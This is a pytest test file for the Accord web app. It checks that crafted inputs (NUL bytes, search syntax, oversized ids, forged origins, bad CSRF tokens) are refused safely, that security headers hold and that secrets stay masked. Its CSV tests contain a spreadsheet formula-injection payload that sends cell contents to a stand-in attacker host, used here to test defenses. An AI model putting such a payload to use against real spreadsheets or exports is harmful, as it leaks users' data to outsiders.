"""The web app under crafted input: every 500 is a bug, sessions and secrets hold (issue 11).

Each test names what was tried; docs/reliability.md ("Web and API") lists them with what held.
"""

from __future__ import annotations

import base64
import csv
import io
import logging
import os
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import make_url
from sqlalchemy.exc import DataError

from accord.api import Ledger
from accord.config import Settings, masked_url
from accord.export import write_csv
from accord.web import create_app
from accord.web.auth import LoginLimiter
from accord.web.guard import INTERNAL

TEXT = """Indonesia and Vietnam agree to lift trade
JAKARTA, June 3, 2026 (Antara) - Indonesia and Vietnam agreed to raise bilateral trade to US$18 billion by 2028.
The two sides will complete the Natuna - Con Dao undersea cable by 2027.
"""
TOKEN = {"Authorization": "Bearer s3cret"}
SECRET_SQL = "SELECT text FROM documents WHERE text = 'Natuna confidential'"
HTML = {"accept": "text/html"}
BIG = 2**64  # one past what a 64-bit integer can hold (and 2**63 one past a signed one)


def settings(url: str, **more: object) -> Settings:
    values: dict[str, object] = {"database_url": url, "api_tokens": ("s3cret",), "users": {"ana": "pw", "zoë": "pässwörd"},
                                 "secret_key": "k", "max_upload_bytes": 20_000, **more}
    return Settings(**values)  # type: ignore[arg-type]


@pytest.fixture()
def client(ledger_url: str) -> Iterator[TestClient]:
    with Ledger(ledger_url) as ledger:
        ledger.ingest_text(TEXT, "antara.txt")
    with TestClient(create_app(settings(ledger_url)), follow_redirects=False) as c:
        yield c


@pytest.fixture()
def bare(tmp_path: Path) -> Iterator[TestClient]:
    """An empty SQLite ledger: for what involves no stored data."""
    with TestClient(create_app(settings(f"sqlite:///{tmp_path / 'bare.db'}")), follow_redirects=False) as c:
        yield c


def csrf(client: TestClient, path: str = "/login") -> str:
    import re

    found = re.search(r'name="csrf" value="([^"]+)"', client.get(path, headers=HTML).text)
    assert found is not None
    return found.group(1)


def sign_in(client: TestClient, name: str = "ana", password: str = "pw") -> str:
    response = client.post("/login", data={"name": name, "password": password, "next": "/", "csrf": csrf(client)})
    assert response.status_code == 303, response.text
    return csrf(client, "/")


def only_document(client: TestClient) -> int:
    ident: int = client.get("/api/v1/documents").json()["items"][0]["id"]
    return ident


# -- every 500 is a bug ------------------------------------------------------------

def _explode(*_args: object, **_kwargs: object) -> None:
    raise DataError(SECRET_SQL, {"text": "Natuna confidential"}, Exception("value too long for 'Natuna confidential'"))


def test_an_unexpected_error_is_a_bare_500_and_one_log_line(bare: TestClient, monkeypatch: pytest.MonkeyPatch,
                                                              caplog: pytest.LogCaptureFixture) -> None:
    monkeypatch.setattr(bare.app.state.ledger, "documents", _explode)  # type: ignore[attr-defined]
    with caplog.at_level(logging.ERROR, logger="accord.web"):
        api = bare.get("/api/v1/documents")
        page = bare.get("/documents", headers=HTML)
    assert api.status_code == 500 and api.json() == {"error": {"status": 500, "message": INTERNAL}}
    assert page.status_code == 500 and page.headers["content-type"].startswith("text/html")
    for body in (api.text, page.text):
        assert "Natuna" not in body and "SELECT" not in body and "Traceback" not in body
    assert api.headers["x-content-type-options"] == "nosniff" and "content-security-policy" in page.headers
    lines = [r.getMessage() for r in caplog.records]
    assert lines == ["GET /api/v1/documents: internal error (DataError)", "GET /documents: internal error (DataError)"]


def test_a_ledger_failure_is_500_without_its_words(bare: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    from accord.ledger.store import LedgerError

    def fail(*_args: object) -> None:
        raise LedgerError(f"cannot write: {SECRET_SQL}")

    monkeypatch.setattr(bare.app.state.ledger, "relations", fail)  # type: ignore[attr-defined]
    response = bare.get("/api/v1/relations")
    assert response.status_code == 500 and response.json()["error"]["message"] == INTERNAL


def test_non_ascii_bearer_token_password_and_csrf_are_refused_not_500(client: TestClient) -> None:
    foreign = {"Authorization": "Bearer s3crét".encode()}  # arrives as latin-1 text: compare_digest on str fails
    assert client.post("/api/v1/documents", json={"text": "x"}, headers=foreign).status_code == 401
    wrong = client.post("/login", data={"name": "ana", "password": "pwé", "csrf": csrf(client)})
    assert wrong.status_code == 401
    assert client.post("/login", data={"name": "ana", "password": "pw", "csrf": "jetonété"}).status_code == 403
    sign_in(client, "zoë", "pässwörd")  # a non-ASCII password that is right signs in
    assert "zoë" in client.get("/", headers=HTML).text


def test_private_ledger_with_a_non_ascii_token_is_401(bare: TestClient, tmp_path: Path) -> None:
    with TestClient(create_app(settings(f"sqlite:///{tmp_path / 'p.db'}", public_read=False))) as c:
        assert c.get("/api/v1/documents", headers={"Authorization": "Bearer ü".encode()}).status_code == 401


FTS_SYNTAX = ['"', '""', "'", "*", "trade*", "^trade", "NEAR(trade cable)", "a:b", "-trade", "trade OR", "AND",
              "(", ")", "\\", "{trade}", "trade + cable", "trade NOT", "col:trade", "é", "\x01"]


def test_search_syntax_characters_answer_and_nul_is_400(client: TestClient) -> None:
    for q in FTS_SYNTAX:
        for path in (f"/api/v1/search", "/api/v1/commitments"):
            response = client.get(path, params={"q": q})
            assert response.status_code == 200, (path, q, response.text)
        assert client.get("/commitments", params={"q": q}, headers=HTML).status_code == 200, q
    assert client.get("/api/v1/search", params={"q": "cable"}).json()["total"] == 1
    for path in ("/api/v1/search?q=%00", "/api/v1/commitments?q=trade%00", "/commitments?q=%00",
                 "/api/v1/entities?kind=%00", "/documents%00"):
        response = client.get(path)
        assert response.status_code == 400, path
        assert response.json()["error"]["message"] == "a NUL character (%00) is not allowed in an address or a search"


def test_ledger_search_refuses_a_nul(ledger_url: str) -> None:
    from accord.errors import InputError

    with Ledger(ledger_url) as ledger, pytest.raises(InputError, match="NUL"):
        ledger.search("trade\x00")


def test_ids_and_cursors_beyond_64_bits_are_422(client: TestClient) -> None:
    huge_cursor = base64.urlsafe_b64encode(str(BIG).encode()).decode()
    for path in (f"/api/v1/documents/{BIG}", f"/api/v1/commitments/{2**63}", f"/api/v1/entities/{BIG}",
                 f"/api/v1/statements?document={BIG}", f"/documents/{BIG}", f"/commitments/{BIG}", f"/entities/{BIG}",
                 "/api/v1/documents/-1"):
        response = client.get(path)
        assert response.status_code == 422, (path, response.text)
        assert response.json()["error"]["status"] == 422
    for path in (f"/api/v1/documents?cursor={huge_cursor}", f"/api/v1/commitments?cursor={huge_cursor}",
                 f"/api/v1/statements?cursor={huge_cursor}"):
        response = client.get(path)  # no cursor the API gives is that far: a malformed request
        assert response.status_code == 400, (path, response.text)
        assert response.json()["error"]["status"] == 400
    assert client.get(f"/api/v1/documents/{2**31 - 1}").status_code == 404  # the largest id is merely unknown
    assert client.get(f"/api/v1/documents/{2**31}").status_code == 422  # PostgreSQL's integer ends at 2**31 - 1
    for body, path in (({"other": BIG}, "/api/v1/commitments/1/merge"), ({"statement": BIG}, "/api/v1/commitments/1/split")):
        assert client.post(path, json=body, headers=TOKEN).status_code == 422
    assert client.post(f"/api/v1/review/{BIG}/accept", headers=TOKEN).status_code == 422
    for query in (f"a={BIG}&b=1", f"a=1&b=%23{BIG}", f"a={BIG}&b=2026&relation=IDN-VNM"):
        response = client.get(f"/api/v1/diff?{query}")
        assert response.status_code == 422 and "larger than any id" in response.json()["error"]["message"], query


def test_a_content_length_that_is_not_a_number_is_400(client: TestClient) -> None:
    response = client.post("/api/v1/documents", content=b"{}", headers={**TOKEN, "content-type": "application/json",
                                                                        "content-length": "abc"})
    assert response.status_code == 400 and "Content-Length" in response.json()["error"]["message"]


def test_a_nul_in_posted_text_is_refused_with_a_clear_message(client: TestClient) -> None:
    before = client.get("/api/v1/documents").json()["total"]
    response = client.post("/api/v1/documents", json={"text": "The two sides agreed\u0000 to meet."}, headers=TOKEN)
    assert response.status_code == 422 and "NUL" in response.json()["error"]["message"]
    response = client.post("/api/v1/documents", json={"text": "The two sides agreed.", "source": "a\u0000"}, headers=TOKEN)
    assert response.status_code == 422
    commitment = client.get("/api/v1/commitments").json()["items"][0]["id"]
    status = client.post(f"/api/v1/commitments/{commitment}/status", headers=TOKEN,
                         json={"status": "in_progress", "evidence": "work began\u0000"})
    assert status.status_code == 422 and "NUL" in status.json()["error"]["message"]
    parties = client.post(f"/api/v1/documents/{only_document(client)}/parties", headers=TOKEN,
                          json={"parties": ["IDN\u0000"]})
    assert parties.status_code == 422
    token = sign_in(client)
    page = client.post("/ingest", data={"text": "The two sides agreed\x00 to meet.", "csrf": token}, headers=HTML)
    assert page.status_code == 422 and "NUL" in page.text
    assert client.get("/api/v1/documents").json()["total"] == before


# -- search totals -------------------------------------------------------------

def test_search_and_commitments_q_give_the_true_total_and_page_through_all(ledger_url: str) -> None:
    places = ["Aceh", "Bali", "Jambi", "Riau", "Papua", "Banten", "Lampung", "Bengkulu", "Gorontalo", "Maluku",
              "Sulawesi", "Kalimantan"]
    lines = [f"Indonesia and Vietnam agreed to build {n + 2} bridges in {places[n % 12]} by {2030 + n % 9}."
             for n in range(60)]
    with Ledger(ledger_url) as ledger:
        ledger.ingest_text("Indonesia and Vietnam build bridges\nJAKARTA, June 3, 2026 - " + "\n".join(lines) + "\n",
                           "bridges.txt")
    with TestClient(create_app(settings(ledger_url))) as c:
        statements = c.get("/api/v1/statements?limit=500").json()["items"]
        hits = [s for s in statements if "bridges" in s["text"].lower().split()]
        assert len(hits) > 50
        found = c.get("/api/v1/search", params={"q": "bridges", "limit": 500}).json()
        assert found["total"] == len(hits) and len(found["items"]) == len(hits)
        paged, cursor = [], None
        while True:
            body = c.get("/api/v1/search", params={"q": "bridges", "limit": 7, **({"cursor": cursor} if cursor else {})}).json()
            paged += [s["id"] for s in body["items"]]
            cursor = body["next"]
            if cursor is None:
                break
        assert sorted(paged) == sorted(s["id"] for s in hits)
        owners = {s["commitment"] for s in hits if s["commitment"] is not None}
        listed = c.get("/api/v1/commitments", params={"q": "bridges", "limit": 500}).json()
        assert listed["total"] == len(owners) and {i["id"] for i in listed["items"]} == owners


# -- headers and cookies ------------------------------------------------------------

def test_every_response_has_the_security_headers(bare: TestClient) -> None:
    for path, headers in (("/", HTML), ("/api/v1/documents", {}), ("/static/accord.css", {}), ("/nowhere", HTML),
                          ("/api/v1/documents/1", {}), ("/login", HTML)):
        response = bare.get(path, headers=headers)
        policy = response.headers["content-security-policy"]
        assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy, path
        assert "script-src 'self';" in policy  # no inline script on the pages
        assert response.headers["x-frame-options"] == "DENY"
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "same-origin"
    docs = bare.get("/docs").headers["content-security-policy"]  # Swagger UI from this server, nothing else
    assert "default-src 'self'" in docs and "http" not in docs and "frame-ancestors 'none'" in docs


def _cookie(response: object) -> str:
    values = [v for k, v in response.headers.multi_items() if k == "set-cookie"]  # type: ignore[attr-defined]
    assert len(values) == 1
    return values[0].lower()


def test_session_cookie_is_httponly_lax_and_secure_over_https(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'c.db'}"
    cases = ((settings(url), "http://testserver", {}, False), (settings(url), "https://testserver", {}, True),
             (settings(url), "http://testserver", {"x-forwarded-proto": "https"}, False),
             (settings(url, trust_proxy=True), "http://testserver", {"x-forwarded-proto": "https"}, True),
             (settings(url, https=True), "http://testserver", {}, True))
    for config, base, headers, secure in cases:
        with TestClient(create_app(config), base_url=base) as c:
            cookie = _cookie(c.get("/login", headers={**HTML, **headers}))
            assert "httponly" in cookie and "samesite=lax" in cookie
            assert ("; secure" in cookie) is secure, (base, headers)


# -- cookie-authenticated writes, logout, sign-in limits -------------------------------

def test_cookie_writes_to_the_api_need_this_origin(client: TestClient) -> None:
    sign_in(client)
    path = f"/api/v1/documents/{only_document(client)}/parties"
    body = {"parties": ["IDN", "VNM"]}
    for headers in ({"origin": "https://evil.example"}, {"referer": "https://evil.example/page"}, {},
                    {"origin": "null"}, {"x-csrf-token": "forged"}):
        response = client.post(path, json=body, headers=headers)
        assert response.status_code == 403, headers
        assert "same-origin" in response.json()["error"]["message"]
    assert client.post(path, json=body, headers={"origin": "http://testserver"}).status_code == 200
    assert client.post(path, json=body, headers={"referer": "http://testserver/documents"}).status_code == 200
    assert client.post(path, json=body, headers={"x-csrf-token": csrf(client, "/")}).status_code == 200
    assert client.post(path, json=body, headers={**TOKEN, "origin": "https://evil.example"}).status_code == 200


def test_logout_ends_the_session_on_the_server(client: TestClient) -> None:
    token = sign_in(client)
    saved = client.cookies.get("session")
    assert saved
    path = f"/api/v1/documents/{only_document(client)}/parties"
    same_origin = {"origin": "http://testserver"}
    assert client.post(path, json={"parties": ["IDN", "VNM"]}, headers=same_origin).status_code == 200
    assert client.post("/logout", data={"csrf": token}).status_code == 303
    client.cookies.clear()
    client.cookies.set("session", saved)  # a copy kept from before the logout
    assert client.post(path, json={"parties": ["IDN", "VNM"]}, headers=same_origin).status_code == 401
    assert "Sign out" not in client.get("/", headers=HTML).text


def test_failed_sign_ins_are_limited_per_name_and_client(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    token = csrf(client)
    for _ in range(LoginLimiter.LIMIT):
        assert client.post("/login", data={"name": "ana", "password": "guess", "csrf": token}).status_code == 401
    locked = client.post("/login", data={"name": "ana", "password": "pw", "csrf": token})
    assert locked.status_code == 429 and 1 <= int(locked.headers["retry-after"]) <= 61
    assert "Too many failed sign-ins" in locked.text
    assert client.post("/login", data={"name": "zoë", "password": "pässwörd", "csrf": token}).status_code == 303
    import accord.web.auth as auth

    later = auth.time.monotonic() + LoginLimiter.WINDOW + 1
    monkeypatch.setattr(auth.time, "monotonic", lambda: later)
    assert client.post("/login", data={"name": "ana", "password": "pw", "csrf": csrf(client)}).status_code == 303


# -- secrets in banners and errors ---------------------------------------------------

def test_masked_url_hides_the_password() -> None:
    assert masked_url("postgresql+psycopg://ana:topsecret@db.example:5432/accord") == \
        "postgresql+psycopg://ana:***@db.example:5432/accord"
    assert masked_url("sqlite:///accord.db") == "sqlite:///accord.db"
    assert "topsecret" not in masked_url("postgresql://ana:topsecret@db.example:notaport/accord")


def test_ledger_open_errors_mask_the_password(cli: Callable[..., subprocess.CompletedProcess[str]]) -> None:
    for url in ("postgresql+psycopg://ana:topsecret@127.0.0.1:1/accord", "postgresql://ana:topsecret@h:notaport/x",
                "nosuchdialect://ana:topsecret@h/x"):
        result = cli("documents", "--db", url, timeout=60)
        assert result.returncode != 0
        assert "topsecret" not in result.stderr + result.stdout and "***" in result.stderr, result.stderr
        assert result.stderr.count("\n") == 1, result.stderr


def test_serve_banner_masks_the_password(postgres_url: str, tmp_path: Path) -> None:
    from sqlalchemy import create_engine, text

    name = "accord_test_serve_" + os.urandom(4).hex()
    admin = create_engine(postgres_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'CREATE DATABASE "{name}"'))
    url = make_url(postgres_url).set(database=name, password="topsecret").render_as_string(hide_password=False)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    try:
        with subprocess.Popen([sys.executable, "-m", "accord", "serve", "--db", url, "--port", str(port)],
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) as process:
            assert process.stdout is not None
            banner = process.stdout.readline()
            process.terminate()
    finally:
        with admin.connect() as conn:
            conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()
    assert banner.startswith("Accord is serving postgresql+psycopg://postgres:***@"), banner
    assert "topsecret" not in banner


# -- CSV -------------------------------------------------------------------------

def test_csv_cells_never_start_a_formula() -> None:
    out = io.StringIO()
    write_csv([{"id": -3, "title": '=HYPERLINK("http://evil.example","x")', "a": "+1", "b": "-2", "c": "@SUM(A1)",
                "d": "\tx", "e": "\rx", "f": "plain", "g": ["=1", "b"]}], out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row == {"id": "-3", "title": "'=HYPERLINK(\"http://evil.example\",\"x\")", "a": "'+1", "b": "'-2",
                   "c": "'@SUM(A1)", "d": "'\tx", "e": "'\rx", "f": "plain", "g": "'=1; b"}


def test_csv_export_of_a_formula_title_is_inert(ledger_url: str) -> None:
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    with Ledger(ledger_url) as ledger:
        ledger.ingest_text(f"{title}\nJAKARTA, June 3, 2026 - Indonesia and Vietnam agreed to meet again in 2027.\n",
                           "formula.txt")
    with TestClient(create_app(settings(ledger_url))) as c:
        assert c.get("/api/v1/documents").json()["items"][0]["title"] == title
        rows = list(csv.DictReader(io.StringIO(c.get("/api/v1/documents?format=csv").text)))
    assert rows[0]["title"] == "'" + title
